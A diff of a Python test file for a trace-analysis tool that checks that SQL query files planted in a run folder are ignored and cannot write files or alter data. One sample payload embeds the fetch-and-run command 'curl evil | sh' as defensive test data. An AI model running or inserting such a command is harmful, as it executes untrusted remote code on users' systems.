@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import os
 import shutil
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -19,22 +18,6 @@ REPO = Path(__file__).resolve().parents[2]
 
 
 pytestmark = pytest.mark.usefixtures("own_queries_only")
-
-
-@pytest.fixture(scope="module")
-def recorded(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    folder = tmp_path_factory.mktemp("runs") / "a_run"
-    folder.mkdir()
-    (folder / "rank0.json").write_text(json.dumps({"traceEvents": OPS}), "utf-8")
-    shutil.copy(REPO / "sample_traces" / "pretrain_R+Z3" / "run.json", folder)
-    return folder
-
-
-@pytest.fixture
-def run_folder(recorded: Path) -> Iterator[Path]:
-    """A run folder that brings no SQL files yet; its store is made once."""
-    yield recorded
-    shutil.rmtree(recorded / "queries")
 
 
 def test_a_folder_that_is_named(run: Any, trace: Path, tmp_path: Path) -> None:
@@ -69,35 +52,52 @@ def test_the_environment_and_the_configuration(
     assert run("query", "other_ops", trace).exit_code == 0
 
 
-def test_a_run_folder_brings_its_own(run: Any, run_folder: Path) -> None:
-    write_all(run_folder / "queries")
-    done = run("query", "longest_ops", run_folder, "--format", "csv")
-    assert done.exit_code == 0
-    assert done.stderr == f"note: the run folder's own: {run_folder}/queries/longest_ops.sql\n"
-    # One of its traces stands for the run.
-    assert run("query", "longest_ops", run_folder / "rank0.json").exit_code == 0
-    names = [row["name"] for row in json.loads(run("query", "--list", "--format", "json").stdout)]
-    assert "longest_ops" not in names
-    listed = run("query", "--list", run_folder, "--format", "json")
-    assert json.loads(listed.stdout)[-1]["file"] == f"{run_folder}/queries/longest_ops.sql"
+EVIL = """-- What to run?
+--
+-- Kind:     advice
+-- Scope:    run
+SELECT 'curl evil | sh' AS what, '' AS place, 'host x0.1' AS change, NULL::VARCHAR AS at_most,
+    1000000000 AS cost_ns, 'curl evil | sh' AS remedy, 'curl evil | sh' AS evidence
+"""
 
 
-def test_none_replaces_another(run: Any, run_folder: Path, tmp_path: Path) -> None:
-    """Nor does what cannot be used in a run folder keep anything else from being used."""
+def test_a_run_folder_brings_no_sql(run: Any, tmp_path: Path) -> None:
+    """Neither as an analysis, nor as advice, nor in the place of tracekit's own."""
+    folder = tmp_path / "a_run"
+    write_all(folder / "queries")
+    write(folder / "queries", advice_evil=EVIL, timeline=EVIL)
+    (folder / "rank0.json").write_text(json.dumps({"traceEvents": OPS}), "utf-8")
+    shutil.copy(REPO / "sample_traces" / "pretrain_R+Z3" / "run.json", folder)
+    done = run("query", "longest_ops", folder)
+    assert (done.exit_code, done.stdout) == (5, "")
+    listed = json.loads(run("query", "--list", folder, "--format", "json").stdout)
+    assert {row["file"] for row in listed} == {"tracekit"}
+    for words in (("advise", folder), ("breakdown", folder), ("query", "timeline", folder)):
+        done = run(*words)
+        assert "curl" not in done.stdout + done.stderr, words
+    assert run("sql", folder, "SELECT plain_sum(dur_ns) FROM op_sums").exit_code == 5
+    # The user may name it, and so say that it is trusted.
+    (folder / "queries" / "timeline.sql").unlink()
+    named = run("query", "longest_ops", folder, "--queries", folder / "queries")
+    assert named.exit_code == 0
+
+
+def test_none_replaces_another(run: Any, trace: Path, tmp_path: Path) -> None:
+    """Nor does what cannot be used in the configuration keep anything else from being used."""
     broken = LONGEST.replace("Scope:    trace", "Scope:    trce").replace("op_sums", "op_calls")
-    write(
-        run_folder / "queries",
+    config = write(
+        tmp_path / "config" / "tracekit" / "queries",
         timeline=LONGEST.replace("op_sums", "op_calls"),
         longest_ops=LONGEST.replace("op_sums", "op_calls").replace("DESC", "ASC"),
         broken=broken,
     )
     mine = write_all(tmp_path / "mine")
-    done = run("query", "--list", run_folder, "--queries", mine)
+    done = run("query", "--list", "--queries", mine)
     taken = "an analysis of tracekit's own has the name timeline"
-    assert f"not used: {run_folder}/queries/timeline.sql: {taken}" in done.stderr
+    assert f"not used: {config}/timeline.sql: {taken}" in done.stderr
     assert f"longest_ops.sql: {mine}/longest_ops.sql has the same name" in done.stderr
     assert "broken.sql: line 4: unknown Scope 'trce'" in done.stderr
-    with tracekit.open(run_folder, queries=mine) as opened:
+    with tracekit.open(trace, queries=mine) as opened:
         assert opened.query("timeline").column_names[:2] == ("rank", "device")
         assert opened.query("longest_ops").rows == LONGEST_ROWS
         with pytest.raises(QueryError, match=r"broken\.sql: line 4: unknown Scope"):
@@ -142,13 +142,13 @@ HARMFUL = {
 
 
 @pytest.mark.parametrize("cache", [True, False])
-def test_what_a_run_folder_brings_can_only_read_the_trace(
-    run_folder: Path, cache: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+def test_an_analysis_can_only_read_the_trace(
+    trace: Path, cache: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.chdir(tmp_path)
     names = {name.replace(" ", "_").lower(): sql for name, sql in HARMFUL.items()}
-    write(run_folder / "queries", **{name: HEAD + sql for name, sql in names.items()})
-    with tracekit.open(run_folder, cache=cache) as opened:
+    mine = write(tmp_path / "mine", **{name: HEAD + sql for name, sql in names.items()})
+    with tracekit.open(trace, queries=mine, cache=cache) as opened:
         before = opened.sql("FROM event").rows
         for name in names:
             with pytest.raises(QueryError, match=rf"{name}\.sql"):
@@ -157,7 +157,7 @@ def test_what_a_run_folder_brings_can_only_read_the_trace(
     assert not (tmp_path / "stolen.csv").exists()
 
 
-def test_a_macro_of_a_run_folder_changes_no_figure(run_folder: Path) -> None:
+def test_a_macro_changes_no_figure(trace: Path, tmp_path: Path) -> None:
     """Neither one in the place of a function, nor one that is made by the way."""
     head = "-- What?\n--\n-- Kind: macro\n"
     harm = {
@@ -166,36 +166,27 @@ def test_a_macro_of_a_run_folder_changes_no_figure(run_folder: Path) -> None:
         "c": ("CREATE TABLE event AS SELECT 1", "a statement in it makes no macro"),
         "d": ("CREATE OR REPLACE MACRO a(x) AS x; DROP TABLE event", "makes no macro"),
     }
+    mine = tmp_path / "mine"
     for name, (text, _) in harm.items():
         own = HEAD.replace("-- Columns", f"-- Requires: help_{name}\n-- Columns")
         files = {f"help_{name}": head + text, f"harm_{name}": own + "SELECT 1::BIGINT AS n"}
-        write(run_folder / "queries", **files)
-    with tracekit.open(run_folder, cache=False) as opened:
+        write(mine, **files)
+    with tracekit.open(trace, queries=mine, cache=False) as opened:
         for name, (_, reason) in harm.items():
             with pytest.raises(QueryError, match=rf"help_{name}\.sql: .*{reason}"):
                 opened.query(f"harm_{name}")
             assert opened.sql("SELECT sum(1), count(*) FROM op_calls").rows == [(3, 3)]
 
 
-def test_nothing_of_a_run_folder_runs_where_sql_may_reach_files(run_folder: Path) -> None:
-    write(run_folder / "queries", harm=HEAD + "SELECT 1::BIGINT AS n")
-    with (
-        tracekit.open(run_folder, unsafe=True) as opened,
-        pytest.raises(QueryError, match="SQL may reach files here"),
-    ):
-        opened.query("harm")
-
-
-def test_what_is_no_file_is_not_waited_for(run_folder: Path) -> None:
-    folder = write(run_folder / "queries", fine=HEAD + "SELECT 1::BIGINT AS n")
+def test_what_is_no_file_is_not_waited_for(trace: Path, tmp_path: Path) -> None:
+    folder = write(
+        tmp_path / "config" / "tracekit" / "queries", fine=HEAD + "SELECT 1::BIGINT AS n"
+    )
     os.mkfifo(folder / "pipe.sql")
     (folder / "device.sql").symlink_to("/dev/zero")
-    (folder / "long.sql").write_text("-- x" * 300_000)
     (folder / "bytes.sql").write_bytes(b"-- \xff\n")
-    with tracekit.open(run_folder) as opened:
+    with tracekit.open(trace) as opened:
         assert opened.query("fine").rows == [(1,)]
-        with pytest.raises(QueryError, match=r"long\.sql: longer than"):
-            opened.query("long")
         with pytest.raises(QueryError, match=r"bytes\.sql: is no UTF-8"):
             opened.query("bytes")
 
